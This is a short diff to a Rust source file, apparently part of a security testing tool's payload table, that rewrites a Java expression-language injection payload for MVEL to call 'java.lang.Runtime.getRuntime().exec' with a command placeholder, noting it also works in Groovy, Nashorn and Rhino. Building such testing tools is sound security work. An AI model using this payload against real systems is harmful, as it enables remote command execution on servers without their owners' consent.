@@ -55,8 +55,8 @@ pub(super) const PAYLOADS: &[Payload] = &[
     ),
     java(
         "java-expression-mvel",
-        "Runtime.getRuntime().exec('{C}')",
-        "MVEL knows the classes of java.lang by their short names",
+        "java.lang.Runtime.getRuntime().exec('{C}')",
+        "the full name of a class is code in MVEL, Groovy, Nashorn and Rhino",
     ),
     java(
         "java-expression-freemarker",
